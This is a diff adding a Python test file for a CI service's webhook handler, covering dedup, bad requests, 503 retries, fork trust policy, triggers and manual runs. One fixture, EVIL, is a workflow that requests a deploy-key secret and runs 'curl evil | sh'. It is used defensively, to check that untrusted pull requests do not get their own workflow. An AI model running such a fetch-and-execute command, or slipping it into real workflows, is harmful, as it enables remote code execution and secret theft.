@@ -1,0 +1,224 @@
+"""Webhook handling beyond the fixtures: dedup, refusals, 503s, fork policy, triggers, manual runs."""
+from __future__ import annotations
+
+import json
+from typing import Any
+
+import asyncpg
+import httpx
+from pydantic import SecretStr
+
+from common.broker import BrokerError, MemoryBroker
+from common.forge.signature import sign
+from common.messages import EventKind, RunRequest
+from forge_integration.config import RepoSettings
+from tests.fakes.forgejo_api import FakeForgejo
+from tests.forge.conftest import (
+    FIXTURES,
+    SECRET,
+    Harness,
+    make_config,
+    service_with,
+)
+
+PUSH = json.loads((FIXTURES / "forgejo" / "HookPush.json").read_text())
+PR = json.loads((FIXTURES / "forgejo" / "HookPullRequestReopened.json").read_text())
+SAFE = 'workflow name="ci" { job id="build" runs_on="local" { step name="make" run="make" } }'
+EVIL = ('workflow name="ci" { job id="build" runs_on="local" '
+        '{ secrets "DEPLOY_KEY"; step name="x" run="curl evil | sh" } }')
+
+
+def push_to(ref: str, after: str = PUSH["after"]) -> dict[str, Any]:
+    return {**PUSH, "ref": ref, "after": after}
+
+
+async def recorded(pool: asyncpg.Pool) -> int:
+    return await pool.fetchval("SELECT count(*) FROM forge_deliveries")
+
+
+async def test_redelivery_is_answered_200_and_publishes_nothing_new(harness: Harness) -> None:
+    first = await harness.post(PUSH, "push", delivery="d-1")
+    again = await harness.post(PUSH, "push", delivery="d-1")
+    assert first.status_code == 202 and first.json()["request_id"] == "d-1"
+    assert again.status_code == 200 and again.json()["outcome"] == "duplicate"
+    assert "published" in again.json()["reason"]
+    # The same delivery id on the other forge is another delivery.
+    assert (await harness.post(PUSH, "push", forge="gitea", delivery="d-1")).status_code == 202
+    await harness.settle()
+    assert [r.repo.forge for r in harness.runs] == ["forgejo", "gitea"]
+
+
+async def test_bad_requests_get_a_reason_and_change_nothing(harness: Harness) -> None:
+    signed_garbage = await harness.post(b'{"ref": ', "push")
+    assert signed_garbage.status_code == 400
+    assert "not valid JSON" in signed_garbage.json()["error"]
+    assert (await harness.post(b'{"ref": ', "push", secret=None)).status_code == 401
+    assert (await harness.post(b"\xff\xfe", "push")).status_code == 400
+    assert (await harness.post(b"[1, 2]", "push")).json()["error"] == "push payload is not a JSON object"
+    unknown = await harness.post(PUSH, "issues")
+    assert unknown.status_code == 400 and "unsupported event 'issues'" in unknown.json()["error"]
+    missing = await harness.post({k: v for k, v in PUSH.items() if k != "after"}, "push")
+    assert missing.status_code == 400 and "after" in missing.json()["error"]
+    no_event = await harness.http.post("/webhooks/forgejo", content=b"{}", headers={
+        "X-Forgejo-Delivery": "x", "X-Forgejo-Signature": sign(SECRET, b"{}")})
+    assert no_event.status_code == 400 and "Event" in no_event.json()["error"]
+    no_delivery = await harness.http.post("/webhooks/forgejo", content=b"{}", headers={
+        "X-Forgejo-Event": "push", "X-Forgejo-Signature": sign(SECRET, b"{}")})
+    assert no_delivery.status_code == 400 and "Delivery" in no_delivery.json()["error"]
+    assert await recorded(harness.pool) == 0
+    deleted = await harness.post(push_to("refs/heads/gone", "0" * 40), "push")
+    assert deleted.status_code == 200 and deleted.json()["outcome"] == "ignored"
+    await harness.settle()
+    assert harness.runs == []
+
+
+async def test_tag_push_runs_as_a_tag(harness: Harness) -> None:
+    response = await harness.post(push_to("refs/tags/v1.0.0"), "push")
+    assert response.status_code == 202
+    await harness.settle()
+    [run] = harness.runs
+    assert (run.event, run.tag, run.branch, run.ref) == (EventKind.TAG, "v1.0.0", None,
+                                                         "refs/tags/v1.0.0")
+
+
+class FlakyBroker(MemoryBroker):
+    """The in-process broker, made to refuse publishes while `refusing` is set."""
+
+    refusing = True
+
+    async def publish_run(self, request: RunRequest) -> None:
+        if self.refusing:
+            raise BrokerError("publish nacked (injected)")
+        await super().publish_run(request)
+
+
+async def test_unconfirmed_publish_answers_503_and_the_retry_publishes(
+        forge: FakeForgejo, pool: asyncpg.Pool, broker_prefix: str) -> None:
+    broker = FlakyBroker(broker_prefix)
+    await broker.connect()
+    try:
+        async with service_with(make_config(forge), forge, pool, broker) as h:
+            refused = await h.post(PUSH, "push", delivery="d-503")
+            assert refused.status_code == 503 and "could not be queued" in refused.json()["error"]
+            assert await recorded(pool) == 0  # the forge's retry must be processed again
+            broker.refusing = False
+            assert (await h.post(PUSH, "push", delivery="d-503")).status_code == 202
+            await h.settle()
+            assert [r.request_id for r in h.runs] == ["d-503"]
+    finally:
+        await broker.close()
+
+
+async def test_forge_api_failure_or_hang_answers_503(harness: Harness) -> None:
+    harness.forge.fail(1, status=500, path_contains="/contents/")
+    assert (await harness.post(PUSH, "push", delivery="d-1")).status_code == 503
+    harness.forge.fail(1, status=0, delay=3.0, path_contains="/contents/")  # client timeout is 1 s
+    assert (await harness.post(PUSH, "push", delivery="d-1")).status_code == 503
+    assert await recorded(harness.pool) == 0
+    assert (await harness.post(PUSH, "push", delivery="d-1")).status_code == 202
+
+
+def pr_body(head_repo_id: int | None, author: str, head_sha: str = "a" * 40) -> dict[str, Any]:
+    pull = json.loads(json.dumps(PR["pull_request"]))
+    pull["head"]["sha"] = head_sha
+    pull["head"]["repo_id"] = head_repo_id
+    if head_repo_id is None:
+        pull["head"].pop("repo", None)
+    else:
+        pull["head"]["repo"] = {**PR["repository"], "id": head_repo_id}
+    pull["user"] = {"login": author}
+    return {**PR, "pull_request": pull}
+
+
+async def test_fork_policy(forge: FakeForgejo, pool: asyncpg.Pool, broker: MemoryBroker) -> None:
+    repo = forge.repos["test_it/test_ci_thing"]
+    repo.permissions |= {"alice": "write", "bob": "read"}
+    forge.users |= {"alice", "bob"}
+    repo.files[(repo.branches["main"], ".solstice/workflow.kdl")] = SAFE  # the base branch
+    repo.files[("a" * 40, ".solstice/workflow.kdl")] = EVIL
+    config = make_config(forge, repos={"test_it/test_ci_thing": RepoSettings(
+        approval_for_untrusted=True)})
+    own_id = PR["repository"]["id"]
+    async with service_with(config, forge, pool, broker) as h:
+        cases = [(pr_body(own_id + 1, "alice"), False), (pr_body(None, "alice"), False),
+                 (pr_body(own_id, "bob"), False), (pr_body(own_id, "carol"), False),
+                 (pr_body(own_id, "alice"), True)]
+        for body, trusted in cases:
+            response = await h.post(body, "pull_request")
+            assert response.status_code == 202, response.text
+            assert response.json()["trusted"] is trusted
+        repo.token_is_admin = False  # the token may not read permissions: untrusted, not 503
+        assert (await h.post(pr_body(own_id, "alice"), "pull_request")).json()["trusted"] is False
+        await h.settle()
+    untrusted = [r for r in h.runs if not r.trusted]
+    assert len(untrusted) == 5 and all(r.needs_approval for r in untrusted)
+    assert all(r.workflow_source == SAFE and r.commit_sha == "a" * 40 for r in untrusted)
+    [trusted] = [r for r in h.runs if r.trusted]
+    assert trusted.workflow_source == EVIL and not trusted.needs_approval
+
+
+async def test_invalid_workflow_gets_a_failed_status_pointing_at_the_error(harness: Harness) -> None:
+    repo = harness.forge.repos["gordon/hello-world"]
+    repo.files[(PUSH["after"], ".solstice/workflow.kdl")] = (
+        'workflow name="ci" {\n  job id="build" runs_on="local" {\n    stepp name="x"\n'
+        '    step name="ok" run="make"\n  }\n}\n')
+    response = await harness.post(PUSH, "push")
+    assert response.status_code == 200 and response.json()["outcome"] == "invalid_workflow"
+    await harness.wait_for(lambda: bool(harness.forge.statuses))
+    [status] = harness.forge.statuses
+    assert (status.sha, status.state, status.context) == (PUSH["after"], "failure", "solstice/workflow")
+    assert status.description.startswith(".solstice/workflow.kdl:3:")
+    assert status.target_url.endswith(f"/src/commit/{PUSH['after']}/.solstice/workflow.kdl#L3")
+    await harness.settle()
+    assert harness.runs == []
+
+
+async def test_triggers_filter_events_and_branches(harness: Harness) -> None:
+    repo = harness.forge.repos["gordon/hello-world"]
+    repo.files[(PUSH["after"], ".solstice/workflow.kdl")] = (
+        'workflow { on "push" branches="release/*"\n'
+        ' job id="b" runs_on="local" { step name="m" run="make" } }')
+    skipped = await harness.post(PUSH, "push")
+    assert skipped.status_code == 200 and skipped.json()["outcome"] == "skipped"
+    assert (await harness.post(push_to("refs/heads/release/2.0"), "push")).status_code == 202
+    assert (await harness.post(push_to("refs/tags/v2"), "push")).json()["outcome"] == "skipped"
+    del repo.files[(PUSH["after"], ".solstice/workflow.kdl")]
+    none = await harness.post(push_to("refs/heads/release/3.0"), "push")
+    assert none.json()["outcome"] == "skipped" and "no .solstice/workflow.kdl" in none.json()["reason"]
+    await harness.settle()
+    assert [r.branch for r in harness.runs] == ["release/2.0"]
+
+
+async def test_manual_runs(harness: Harness) -> None:
+    async def post(body: dict[str, Any], token: str = "manual-token") -> httpx.Response:
+        return await harness.http.post("/runs", json=body, headers={"Authorization": f"Bearer {token}"})
+
+    body = {"forge": "forgejo", "repository": "gordon/hello-world", "branch": "main",
+            "request_id": "manual-1"}
+    assert (await post(body, token="wrong")).status_code == 401
+    accepted = await post(body)
+    assert accepted.status_code == 202, accepted.text
+    assert (await post(body)).json()["outcome"] == "duplicate"
+    assert (await post({**body, "repository": "gordon/nope", "request_id": "m2"})).status_code == 404
+    assert (await post({**body, "branch": "nope", "request_id": "m3"})).status_code == 404
+    assert (await post({**body, "forge": "github"})).status_code == 400
+    await harness.settle()
+    [run] = harness.runs
+    head = harness.forge.repos["gordon/hello-world"].branches["main"]
+    assert (run.event, run.commit_sha, run.branch, run.trusted) == (EventKind.MANUAL, head, "main", True)
+    assert run.priority > 6
+
+
+async def test_secrets_per_repository_and_insecure_mode(forge: FakeForgejo, pool: asyncpg.Pool,
+                                                        broker: MemoryBroker) -> None:
+    config = make_config(forge, repos={"gordon/hello-world": RepoSettings(
+        webhook_secret=SecretStr("repo-secret"))})
+    async with service_with(config, forge, pool, broker) as h:
+        assert (await h.post(PUSH, "push")).status_code == 401  # the global secret is replaced
+        assert (await h.post(PUSH, "push", secret="repo-secret")).status_code == 202
+    insecure = make_config(forge, webhook_secret=None, insecure_no_signature=True,
+                           manual_token=None)
+    async with service_with(insecure, forge, pool, broker) as h:
+        assert (await h.post(push_to("refs/heads/dev"), "push", secret=None)).status_code == 202
+        manual = await h.http.post("/runs", json={})
+        assert manual.status_code == 403 and "disabled" in manual.json()["error"]
